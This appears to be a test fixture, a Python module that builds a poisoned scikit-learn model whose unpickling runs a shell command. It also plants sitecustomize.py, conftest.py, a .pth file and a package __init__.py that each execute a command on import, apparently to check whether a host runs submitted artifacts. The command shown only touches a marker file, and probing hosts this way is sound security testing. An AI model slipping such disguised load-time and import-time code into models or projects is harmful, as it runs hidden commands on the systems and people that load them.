"""Leaves payloads hoping the host runs them: a model pickle whose loading runs a command
(creating a marker file on the host), a sitecustomize.py, a .pth file and a conftest.py.
"""

import os

from sklearn.linear_model import LogisticRegression


class Payload(LogisticRegression):
    marker = ""

    def __reduce__(self):
        # Unpickling model.joblib would run this command wherever it is loaded.
        return (os.system, (f"touch {self.marker}",))


def build_model(marker=""):
    for name in ("sitecustomize.py", "conftest.py", "evil.pth", "model/__init__.py"):
        os.makedirs("/output/model", exist_ok=True)
        with open("/output/" + name, "w") as handle:
            handle.write(f"import os; os.system('touch {marker}')\n")
    model = Payload(max_iter=200)
    model.marker = marker
    return model
